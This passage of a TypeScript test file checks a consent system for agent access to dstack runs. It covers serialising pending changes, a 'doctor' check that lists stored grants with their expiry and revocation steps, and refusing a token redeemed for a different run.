  for (const options of [{}, { policy: 'access: {each_time: true}\n' }]) {
    const { ask, gate } = setUp(options);
    const where = { replica: 1, job: 2, isBackground: true };
    for (const asked of [
      await ask(),
      await ask({ input: 'x', ...where }),
      await ask({ what: 'request', text: 'GET /', token: true }),
    ]) {
      const change = gate.changeOf(tokenOf(previewOf(asked)));
      const stored: unknown = JSON.parse(JSON.stringify(change));
      expect(pendingChange.parse(stored)).toEqual(change);
    }
  }
});

test('doctor lists who may use which run, until when, and how to revoke it', async () => {
  const { allow, grants, agreements } = setUp();
  expect(await checkRemembered({ grants, agreements })).toEqual([]);
  await allow();
  expect(await checkRemembered({ grants, agreements })).toMatchObject([
    {
      name: 'access',
      state: 'ok',
      found: expect.stringMatching(
        /^1 consent to use a run: lab-task in project lab on http:\/\/127\.0\.0\.1:3999, every command and upload, until .* \(token\)\. To revoke one: exec with action "revoke" and its run$/,
      ),
      details: expect.stringContaining('.json'),
    },
  ]);
});

test('doctor says what else a grant can be for', async () => {
  const grant: Grant = {
    server: SERVER,
    project: 'lab',
    run: 'lab-task',
    runId: RUN_ID,
    deployment: 0,
    until: '2100-01-01T00:00:00Z',
    reachesServer: false,
    level: 'token',
    grantedAt: '2026-01-01T00:00:00Z',
    sinceBootMs: 1,
    file: '/g',
  };
  const list = async (): Promise<readonly Grant[]> => [
    { ...grant, token: true },
    { ...grant, token: true, use: 'sha', shown: 'GET /a' },
    { ...grant, use: 'sha', shown: 'ls -l' },
    { ...grant, commands: ['nvidia-smi', 'ls *'] },
  ];
  const [check] = await checkRemembered({ grants: { list }, agreements: { list: async () => [] } });
  for (const words of [
    "requests with the user's dstack token,",
    "once, with the user's dstack token: GET /a",
    'once: ls -l',
    'the commands nvidia-smi, ls *',
  ])
    expect(check?.found).toContain(words);
});

test('a repeated argument of another run is refused', async () => {
  const { ask, service } = setUp();
  const token = tokenOf(previewOf(await ask()));
  expect(await refusal(service().redeem(token, { run: ['other'] }))).toMatchObject({
    code: 'invalid-input',
    hint: expect.stringContaining('call exec, copy or request'),
  });
});
